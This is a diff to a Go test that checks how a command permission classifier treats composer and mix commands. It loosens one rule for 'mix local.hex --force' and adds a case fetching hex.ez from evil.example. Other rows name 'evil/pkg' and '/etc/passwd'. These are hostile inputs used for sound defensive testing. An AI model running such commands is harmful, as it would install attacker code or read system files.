@@ -32,7 +32,8 @@ func TestBuildArgumentClasses(t *testing.T) {
 		{"composer global require evil/pkg", "!allow", "!allow"},
 		{"composer deploy", "!allow", "!allow"},
 		{"mix archive.install hex phx_new", "!allow", "!allow"},
-		{"mix local.hex --force", "!allow", "!allow"},
+		{"mix local.hex --force", "allow", "!allow"}, // session 5: ~/.mix is out of the sandbox's reach (toolstate.go)
+		{"mix local.hex https://evil.example/hex.ez", "!allow", "!allow"},
 		{"mix hex.publish", "deny", "deny"},
 		{"composer analyse /etc/passwd", "!allow", "!allow"},
 	} {
